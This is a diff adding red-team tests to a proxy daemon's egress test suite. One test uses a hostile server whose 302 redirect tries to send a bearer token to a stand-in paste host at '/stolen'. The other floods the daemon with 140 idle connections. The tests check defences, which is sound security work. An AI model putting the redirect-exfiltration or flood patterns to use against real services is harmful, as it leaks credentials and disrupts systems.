@@ -8,6 +8,7 @@
 import { after, before, describe, test } from 'node:test';
 import assert from 'node:assert/strict';
 import * as fs from 'node:fs';
+import * as net from 'node:net';
 import * as path from 'node:path';
 import * as tls from 'node:tls';
 import { startDaemon, tempHome, waitFor, type Daemon } from '../helpers/daemon';
@@ -133,6 +134,28 @@ describe('egress red team: the real value only to its host, nothing nobody allow
     assert.match(back, new RegExp(`^HTTP/1\\.1 200 seen Bearer ${t.ph}\r\n`));
     assert.match(back, new RegExp(`\r\nX-Seen: Bearer ${t.ph}\r\n`, 'i'));
     assert.equal(responseBody(back), `body Bearer ${t.ph}\n`);
+  });
+
+  test('held: a redirect from the secret\'s host is handed to the client, never followed, and its Location carries the placeholder', async () => {
+    const t = await newTask('redirect');
+    const target = `https://paste.example.test:${tlsUp.port}/stolen`;
+    const redirect = await testHttpsServer(ca, (req, res) => {
+      res.writeHead(302, { Location: `${target}?t=${encodeURIComponent(req.headers.authorization ?? '')}&raw=${req.headers.authorization ?? ''}` });
+      res.end();
+      return true;
+    });
+    try {
+      const before = tlsUp.got.length;
+      const s = await tlsInTunnel(t.sock, api(redirect.port), 'api.example.test', t.caBundle);
+      const back = await exchange(s, `GET /login HTTP/1.1\r\nHost: ${api(redirect.port)}\r\nAuthorization: Bearer ${t.ph}\r\nConnection: close\r\n\r\n`);
+      assert.equal(redirect.seen.at(-1)?.authorization, `Bearer ${TOKEN}`);
+      assert.match(back, /^HTTP\/1\.1 302/);
+      assert.ok(back.includes(`&raw=Bearer ${t.ph}`) && !back.includes(TOKEN), back);
+      await new Promise((r) => setTimeout(r, 300));
+      assert.equal(tlsUp.got.length, before, 'the proxy followed nothing');
+    } finally {
+      await redirect.close();
+    }
   });
 
   test('[::ffff:127.0.0.1] is this machine: the prompt says loopback and is high risk (it said nothing: the URL parser writes it ::ffff:7f00:1)', async () => {
@@ -301,6 +324,28 @@ describe('egress red team: the real value only to its host, nothing nobody allow
       assert.match(await pending, /^HTTP\/1\.1 403/);
     }
     assert.equal(human.unanswered().length, 0);
+  });
+});
+
+describe('egress red team: floods', () => {
+  test('held: connections held open without a byte hit the cap with a 503 and the daemon keeps answering; once closed, the task gets out again', async () => {
+    const t = await newTask('flood');
+    const socks: net.Socket[] = [];
+    const texts: string[] = [];
+    try {
+      for (let i = 0; i < 140; i++) {
+        const s = net.connect(t.sock);
+        const k = texts.push('') - 1;
+        s.on('data', (b: Buffer) => (texts[k] += b.toString('latin1')));
+        s.on('error', () => undefined);
+        socks.push(s);
+      }
+      await waitFor(() => texts.some((x) => /^HTTP\/1\.1 503/.test(x)), 'a connection over the cap to be told 503', 15_000);
+      assert.ok((await ui.call<{ grants: unknown[] }>('grants.list', { task: t.task })).grants.length >= 1, 'the daemon answers its human');
+    } finally {
+      for (const s of socks) s.destroy();
+    }
+    await waitFor(async () => /^HTTP\/1\.1 200/.test(await rawExchange(t.sock, `GET http://paste.example.test:${plainUp.port}/after-flood HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`)), 'a way out again', 15_000, 200);
   });
 });
 
